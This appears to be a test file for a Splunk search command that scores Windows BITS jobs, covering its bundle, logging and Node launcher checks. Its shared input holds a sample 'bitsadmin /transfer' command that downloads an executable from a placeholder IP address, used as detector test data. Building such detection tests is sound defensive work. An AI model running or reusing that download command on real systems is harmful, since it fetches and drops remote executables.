/** The program as it is shipped: bundle and launcher, as processes. */
import { spawnSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { builtinModules } from 'node:module';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { execute, getinfo, records, replies } from './conversation.js';

const root = resolve(import.meta.dirname, '../..');
const bundle = join(root, 'dist/bitsscore.cjs');
const describeBuilt = existsSync(bundle) ? describe : describe.skip;
const input = Buffer.concat([getinfo(), execute('process,_chunked_idx\nbitsadmin /transfer j http://203.0.113.7/a.exe C:\\a.exe,0\n')]);

let app: string;
beforeEach(() => {
  app = mkdtempSync(join(tmpdir(), 'app-'));
  for (const folder of ['bin', 'local', 'splunk/var/log/splunk']) mkdirSync(join(app, folder), { recursive: true });
  copyFileSync(join(root, 'bin/bitsjobs.sh'), join(app, 'bin/bitsjobs.sh'));
  if (existsSync(bundle)) copyFileSync(bundle, join(app, 'bin/bitsscore.cjs'));
});
afterEach(() => {
  rmSync(app, { recursive: true });
});

/** A program that says what version it is, and otherwise is not to be started. */
function fakeNode(version: string, mode = 0o755): string {
  const path = join(app, 'node');
  writeFileSync(path, `#!/bin/sh\n[ "$1" = --version ] && echo ${version} || echo started\n`);
  chmodSync(path, mode);
  return path;
}

function launch(nodePath: string | undefined, env: NodeJS.ProcessEnv = {}, conversation: Buffer = input) {
  if (nodePath !== undefined) writeFileSync(join(app, 'local/node.path'), `${nodePath}\n`);
  return spawnSync(join(app, 'bin/bitsjobs.sh'), ['bitsscore'], { input: conversation, env: { SPLUNK_HOME: join(app, 'splunk'), ...env } });
}

describeBuilt('the bundle (npm run build makes it)', () => {
  test('is small, and holds no package', () => {
    const text = readFileSync(bundle, 'utf8');
    expect(statSync(bundle).size).toBeLessThanOrEqual(120 * 1024);
    expect(text).not.toContain('node_modules');
    const asked = [...text.matchAll(/\brequire\("([^"]+)"\)/g)].map((match) => match[1] ?? '');
    expect(asked.filter((name) => !name.startsWith('node:') || !builtinModules.includes(name.slice(5)))).toEqual([]);
  });

  test('scores by way of the launcher, writes nothing to stderr, and logs with its pid', () => {
    const { status, stdout, stderr } = launch(process.execPath, { NODE_OPTIONS: '--no-such-option', LD_LIBRARY_PATH: '/nonexistent' });
    expect([status, stderr.toString()]).toEqual([0, '']);
    const [row] = records(replies(stdout)[1]?.body ?? '');
    expect(row).toMatchObject({ _chunked_idx: '0', bits_url: 'http://203.0.113.7/a.exe' });
    const log = readFileSync(join(app, 'splunk/var/log/splunk/bitsscore.log'), 'utf8').trimEnd().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(log.map(({ message }) => message)).toEqual(['first rows', 'input ended']);
    expect(log.every(({ pid }) => typeof pid === 'number')).toBe(true);
    expect(JSON.stringify(log)).not.toContain('invented-key');
  });

  test('getinfo alone leaves no trace; settings of this app are read', () => {
    writeFileSync(join(app, 'local/bitsscore.conf'), '[bitsscore]\nthreshold = many\n');
    const { stdout } = launch(process.execPath, {}, getinfo());
    expect(JSON.stringify(replies(stdout)[0]?.metadata['inspector'])).toContain('default 50 holds');
    expect(readdirSync(join(app, 'splunk/var/log/splunk'))).toEqual([]);
  });

  test('an input that ends inside a chunk ends in exit code 1 and no output', () => {
    const { status, stdout, stderr } = launch(process.execPath, {}, input.subarray(0, 30));
    expect([status, stdout.toString(), stderr.toString()]).toEqual([1, '', '']);
  });
});

describe('the launcher', () => {
  test('may be started', () => {
    expect(statSync(join(root, 'bin/bitsjobs.sh')).mode & 0o111).toBe(0o111);
  });

  test('starts the Node of local/node.path first', () => {
    expect(launch(fakeNode('v22.1.0')).stdout.toString()).toBe('started\n');
  });

  // Behind these the usual places are looked at: what is installed there answers, or nobody does.
  test.each([['v18.20.1', 0o755], ['v8.17.0', 0o755], ['nonsense', 0o755], ['v22.0.0', 0o775], ['v22.0.0', 0o757], ['v22.0.0', 0o644]])('passes over a Node %s of mode %s', (version, mode) => {
    const { stdout } = launch(fakeNode(version, mode));
    expect(stdout.toString()).not.toContain('started');
    expect(replies(stdout)[0]?.metadata).toBeDefined();
  });

  test('passes over relative paths, and a node.path that others may write to', () => {
    fakeNode('v22.0.0');
    expect(launch('../node').stdout.toString()).not.toContain('started');
    writeFileSync(join(app, 'local/node.path'), `${join(app, 'node')}\n`);
    chmodSync(join(app, 'local/node.path'), 0o666);
    expect(launch(undefined).stdout.toString()).not.toContain('started');
  });

  test('without a Node it answers in the protocol what to do', () => {
    const script = readFileSync(join(app, 'bin/bitsjobs.sh'), 'utf8').replace(/^for node in .*$/m, '');
    writeFileSync(join(app, 'bin/bitsjobs.sh'), script);
    const { status, stdout, stderr } = launch(fakeNode('v18.20.1'), {}, getinfo());
    expect([status, stderr.toString()]).toEqual([0, '']);
    expect(replies(stdout)).toEqual([{ metadata: { finished: true, error: expect.stringMatching(/needs Node\.js 20 or later \(.*v18\.20\.1\).*local\/node\.path/) as unknown }, body: Buffer.alloc(0) }]);
    expect(replies(launch(undefined, { OS: 'Windows_NT' }, getinfo()).stdout)[0]?.metadata['error']).toContain('Windows');
  });
});
